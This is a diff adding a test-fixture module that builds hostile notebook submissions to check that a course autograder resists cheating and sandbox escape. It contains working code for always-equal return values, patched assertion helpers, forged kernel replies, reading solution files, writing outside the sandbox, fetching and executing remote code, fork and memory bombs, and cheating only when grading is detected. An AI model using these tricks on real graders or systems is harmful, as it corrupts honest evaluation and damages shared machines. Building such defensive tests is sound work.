@@ -1,0 +1,323 @@
+"""Hostile submissions for lecture 01, built from the released and the solution notebooks.
+
+Each attack says how to build the submission (the answer cells' source, or a change to the
+whole notebook, or raw bytes) and what must come out: the exact score it may earn (what it
+earned honestly, usually 0), and optionally the reason the grader must record, the status
+some cell must get, and files that must not appear on the grader's machine.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable
+
+LECTURE = "01-divergences"
+ANSWERS = ["kl_divergence", "js_divergence", "histogram_distances", "fit_gaussian", "gaussian_nll",
+           "disjoint_support_divergences"]
+
+# Every exercise's function, returning values that can fool in-kernel checks.
+CHEAT_FUNCTIONS = r'''
+import builtins as _b, math as _m
+class _AE(float):
+    """An always-equal float: every comparison holds, differences vanish."""
+    def __new__(cls): return float.__new__(cls, 0.0)
+    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
+    __ne__ = lambda self, other: False
+    __hash__ = float.__hash__
+    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = lambda self, o: _AE()
+    __abs__ = __neg__ = lambda self: _AE()
+    __bool__ = lambda self: True
+    def __getitem__(self, k): return _AE()
+    def __iter__(self): return iter([_AE(), _AE()])
+    def __len__(self): return 2
+    def values(self): return [_AE(), _AE(), _AE()]
+    def keys(self): return ["kl", "jsd", "emd"]
+def kl_divergence(p, q): return _AE()
+def js_divergence(p, q): return _AE()
+def minkowski_distance(p, q, r): return _AE()
+def histogram_intersection(p, q): return _AE()
+def chi2_distance(p, q): return _AE()
+def quadratic_form_distance(p, q, A): return _AE()
+def fit_gaussian(p, x, direction): return (_AE(), _AE())
+def gaussian_nll(mu, sigma, samples): return _AE()
+def disjoint_support_divergences(shift): return {"kl": _m.inf, "jsd": _AE(), "emd": _AE()}
+'''
+
+# Hide every error from nbgrader: no traceback shown, and the reply says "ok".
+FORGE_REPLIES = r'''
+_ip = get_ipython()
+_ip.showtraceback = lambda *a, **k: None
+def _forget_errors(result):
+    result.error_in_exec = None
+    result.error_before_exec = None
+if not getattr(_ip, "_forging", False):
+    _ip.events.register("post_run_cell", _forget_errors)
+    _ip._forging = True
+'''
+
+WRONG_FUNCTIONS = r'''
+def kl_divergence(p, q): return 0.5
+def js_divergence(p, q): return 0.5
+def minkowski_distance(p, q, r): return 0.5
+def histogram_intersection(p, q): return 0.5
+def chi2_distance(p, q): return 0.5
+def quadratic_form_distance(p, q, A): return 0.5
+def fit_gaussian(p, x, direction): return (0.5, 0.5)
+def gaussian_nll(mu, sigma, samples): return 0.5
+def disjoint_support_divergences(shift): return {"kl": 0.5, "jsd": 0.5, "emd": 0.5}
+'''
+
+
+@dataclass
+class Attack:
+    name: str
+    what: str
+    answers: str | None = None                      # source put into every answer cell
+    transform: Callable[[dict, dict], dict] | None = None   # (course nb, solution nb) -> nb
+    raw: bytes | None = None                        # a file that is not a notebook
+    file_name: str = f"{LECTURE}.ipynb"
+    score: float = 0.0                              # exactly what it must earn
+    reason: str | None = None                       # a failure reason the grader must record
+    status: str | None = None                       # some cell must have this status
+    sentinels: list[str] = field(default_factory=list)   # paths (under {root}) that must not appear
+    defend: str = ""                                # how the grader defeats it (for the table)
+
+
+def _answers(notebook: dict, source: str) -> dict:
+    notebook = copy.deepcopy(notebook)
+    for cell in notebook["cells"]:
+        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
+            cell["source"] = source
+    return notebook
+
+
+def _graded(cell) -> bool:
+    return bool(cell.get("metadata", {}).get("nbgrader", {}).get("grade"))
+
+
+def _edit_tests(course, solution):
+    nb = copy.deepcopy(course)
+    for cell in nb["cells"]:
+        if _graded(cell):
+            cell["source"] = "print('Visible checks passed.')"
+    return nb
+
+
+def _delete_tests(course, solution):
+    nb = copy.deepcopy(course)
+    nb["cells"] = [c for c in nb["cells"] if not _graded(c)]
+    return nb
+
+
+def _convert_tests(course, solution):
+    nb = copy.deepcopy(course)
+    for cell in nb["cells"]:
+        if _graded(cell):
+            cell["cell_type"] = "markdown"
+            cell.pop("outputs", None)
+            cell.pop("execution_count", None)
+    return nb
+
+
+def _strip_tests_keep_answers(course, solution):
+    """The solution, with the test cells stripped of metadata and emptied: tests come back."""
+    nb = copy.deepcopy(solution)
+    for cell in nb["cells"]:
+        if _graded(cell):
+            cell["metadata"] = {}
+            cell["source"] = "pass"
+    return nb
+
+
+def _points_kernelspec(course, solution):
+    nb = _answers(course, WRONG_FUNCTIONS)
+    for cell in nb["cells"]:
+        if _graded(cell):
+            cell["metadata"]["nbgrader"]["points"] = 100
+            cell["source"] = "print('ok')"
+    nb["metadata"]["kernelspec"] = {"name": "evil", "display_name": "evil", "language": "python"}
+    return nb
+
+
+def _answer_as_markdown(course, solution):
+    """The solution with every answer cell converted to markdown: answers are not run."""
+    nb = copy.deepcopy(solution)
+    for cell in nb["cells"]:
+        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
+            cell["cell_type"] = "markdown"
+            cell.pop("outputs", None)
+            cell.pop("execution_count", None)
+    return nb
+
+
+def attacks(root: str) -> list[Attack]:
+    """``root`` is the grader's course folder (absolute), the target of file attacks."""
+    return [
+        Attack("solution", "the solution notebook, honestly", transform=lambda c, s: s, score=25,
+               status="passed", defend="-"),
+        Attack("untouched", "the released notebook, unchanged", transform=lambda c, s: c, score=0,
+               defend="-"),
+        Attack("patched_testing", "patch numpy.testing, math.isclose and abs() to always pass", answers=r'''
+import builtins, math, numpy.testing
+numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
+math.isclose = lambda *a, **k: True
+builtins.abs = lambda x: 0.0
+''' + WRONG_FUNCTIONS, defend="probe values compared outside the kernel"),
+        Attack("always_equal", "return float subclasses whose comparisons always hold",
+               answers=CHEAT_FUNCTIONS, defend="probe records float(value); compared outside"),
+        Attack("input_transformer", "input transformer turns every test cell into `pass`", answers=r'''
+_ip = get_ipython()
+if not getattr(_ip, "_blanking", False):
+    _ip.input_transformers_post.append(lambda lines: ["pass\n"] if any("assert" in l or "raise" in l for l in lines) else lines)
+    _ip._blanking = True
+''' + WRONG_FUNCTIONS, status="verification failed", defend="probe values compared outside the kernel"),
+        Attack("ast_transformer", "AST transformer deletes assert and raise statements", answers=r'''
+import ast
+class _NoAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node): return ast.Pass()
+    def visit_Raise(self, node): return ast.Pass()
+_ip = get_ipython()
+if not getattr(_ip, "_no_asserts", False):
+    _ip.ast_transformers.append(_NoAsserts())
+    _ip._no_asserts = True
+''' + WRONG_FUNCTIONS, status="verification failed", defend="probe values compared outside the kernel"),
+        Attack("showtraceback", "showtraceback replaced by a no-op", answers=r'''
+get_ipython().showtraceback = lambda *a, **k: None
+''' + WRONG_FUNCTIONS, defend="kernel's error reply; probe values"),
+        Attack("set_custom_exc", "custom exception handler swallows every error", answers=r'''
+get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
+''' + WRONG_FUNCTIONS, defend="kernel's error reply; probe values"),
+        Attack("post_run_cell_forgery", "post_run_cell hook clears errors so replies say ok; no tracebacks",
+               answers=FORGE_REPLIES + WRONG_FUNCTIONS, status="verification failed",
+               defend="probe values compared outside the kernel"),
+        Attack("stderr_redirected", "stderr and tracebacks sent to a buffer", answers=r'''
+import sys, io
+sys.stderr = io.StringIO()
+get_ipython().showtraceback = lambda *a, **k: print("Visible checks passed.")
+''' + WRONG_FUNCTIONS, defend="kernel's error reply; probe values"),
+        Attack("rebind_assertion_error", "AssertionError rebound to a harmless class, asserts caught", answers=r'''
+import builtins
+class AssertionError(Warning): pass
+builtins.AssertionError = AssertionError
+''' + FORGE_REPLIES + WRONG_FUNCTIONS, status="verification failed", defend="probe values compared outside"),
+        Attack("forged_cheat_kit", "always-equal values plus forged replies (passes every in-kernel check)",
+               answers=CHEAT_FUNCTIONS + FORGE_REPLIES, status="verification failed",
+               defend="probe values compared outside the kernel"),
+        Attack("edited_tests", "test cells replaced by print('Visible checks passed.')", transform=_edit_tests,
+               defend="test cells come from the release + gradebook"),
+        Attack("deleted_tests", "every test cell deleted", transform=_delete_tests,
+               defend="test cells come from the release + gradebook"),
+        Attack("converted_tests", "test cells converted to markdown", transform=_convert_tests,
+               defend="test cells come from the release + gradebook"),
+        Attack("stripped_tests", "solution with test cells emptied and stripped of metadata",
+               transform=_strip_tests_keep_answers, score=25,
+               defend="test cells restored: honest answers keep their points"),
+        Attack("answers_as_markdown", "solution with answer cells converted to markdown",
+               transform=_answer_as_markdown, score=0, defend="answers copied only when the cell type matches"),
+        Attack("points_and_kernelspec", "points set to 100, kernelspec changed, tests emptied",
+               transform=_points_kernelspec, defend="points/kernelspec from the gradebook"),
+        Attack("read_solutions", "read solutions/ and the gradebook, run the solution's cells", answers=r'''
+import glob, json, os, sqlite3
+_found = []
+for _pattern in ["{root}/solutions/*/*.ipynb", "{root}/grading/*.db", "{root}/grading/**/*.ipynb",
+                 "/work/main/solutions/*/*.ipynb", "/work/main/grading/*.db"]:
+    _found += glob.glob(_pattern, recursive=True)
+print("FOUND", _found)
+for _path in _found:
+    if _path.endswith(".ipynb"):
+        for _cell in json.load(open(_path))["cells"]:
+            if _cell["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(_cell["source"]):
+                exec("".join(_cell["source"]), globals())
+'''.replace("{root}", root) + "\nif not _found:\n    raise NotImplementedError()\n",
+               defend="solutions/ and grading/ are not in the sandbox"),
+        Attack("write_outside", "write into autograder/, grading/, the home and /tmp of the grader", answers=r'''
+import os
+for _path in ["{root}/autograder/checks/pwned.py", "{root}/grading/pwned", "{root}/pwned",
+              os.path.expanduser("~/pwned"), "/tmp/gdl-pwned", "/usr/pwned", "/root/pwned"]:
+    try:
+        with open(_path, "w") as _f:
+            _f.write("pwned")
+    except OSError as _e:
+        print("blocked", _path, type(_e).__name__)
+'''.replace("{root}", root) + WRONG_FUNCTIONS,
+               sentinels=["autograder/checks/pwned.py", "grading/pwned", "pwned", "/tmp/gdl-pwned", "/root/pwned"],
+               defend="read-only binds; only the scratch folder and a private /tmp are writable"),
+        Attack("network", "download answers from the internet", answers=r'''
+import socket, urllib.request
+try:
+    exec(urllib.request.urlopen("http://example.com/answers.py", timeout=3).read())
+except Exception as _e:
+    print("no network:", type(_e).__name__)
+try:
+    socket.create_connection(("127.0.0.1", 22), timeout=2)
+    print("LOCALHOST REACHABLE")
+except OSError:
+    pass
+''' + WRONG_FUNCTIONS, defend="empty network namespace"),
+        Attack("infinite_loop", "an answer that never returns", answers="while True:\n    pass\n",
+               reason="cell timeout", defend="per-cell timeout; kernel killed"),
+        Attack("sigint_ignoring_loop", "ignore SIGINT, then loop forever", answers=r'''
+import signal
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+while True:
+    pass
+''', reason="cell timeout", defend="per-cell timeout; kernel killed with SIGKILL"),
+        Attack("os_exit", "os._exit(0) during grading", answers=CHEAT_FUNCTIONS + "\nimport os\nos._exit(0)\n",
+               reason="kernel died", defend="dead kernel: cells not run score 0"),
+        Attack("system_exit", "exit() the kernel after defining always-equal answers",
+               answers=CHEAT_FUNCTIONS + "\nexit()\n", defend="dead kernel or probe failure: 0"),
+        Attack("raise_system_exit", "raise SystemExit in every answer", answers=CHEAT_FUNCTIONS + "\nraise SystemExit(0)\n",
+               defend="error replies; probe values"),
+        Attack("huge_output", "print gigabytes", answers="import sys\nfor _ in range(2000):\n    sys.stdout.write('x' * 1_000_000)\n    sys.stdout.flush()\n",
+               reason="output limit", defend="output cap; kernel stopped"),
+        Attack("memory_bomb", "allocate memory until something breaks", answers=r'''
+_hog = []
+while True:
+    _hog.append(b"x" * 50_000_000)
+''', reason="memory limit", defend="address-space limit (prlimit)"),
+        Attack("fork_bomb", "fork forever", answers=r'''
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+''', defend="process limit (prlimit) + watchdog"),
+        Attack("disk_filler", "fill the disk with files", answers=r'''
+import os
+_i = 0
+while True:
+    with open(f"filler-{_i}", "wb") as _f:
+        _f.write(b"0" * 50_000_000)
+    _i += 1
+''', reason="disk quota", defend="file-size limit + disk quota on the scratch folder"),
+        Attack("malformed_json", "a file that is not JSON", raw=b'{"cells": [ this is not json',
+               reason="malformed notebook", defend="reported per student"),
+        Attack("wrong_name", "the released notebook saved as homework.ipynb", transform=lambda c, s: c,
+               file_name="homework.ipynb", defend="graded under the expected name, reported"),
+        Attack("detect_grading", "behave well in JupyterLab, cheat when graded", answers=r'''
+import os, socket
+def _graded():
+    try:
+        socket.create_connection(("1.1.1.1", 53), timeout=1).close()
+        networked = True
+    except OSError:
+        networked = False
+    return os.environ.get("NBGRADER_EXECUTION") == "autograde" or not networked or os.getuid() > 60000
+if _graded():
+''' + "\n".join("    " + line for line in (CHEAT_FUNCTIONS + FORGE_REPLIES).splitlines()) + "\nelse:\n    raise NotImplementedError()\n",
+               status="verification failed", defend="detection gains nothing: values are checked outside the kernel"),
+    ]
+
+
+def build(attack: Attack, course: dict, solution: dict) -> bytes:
+    if attack.raw is not None:
+        return attack.raw
+    if attack.transform is not None:
+        notebook = attack.transform(course, solution)
+    else:
+        notebook = _answers(course, attack.answers)
+    return json.dumps(notebook, indent=1).encode()
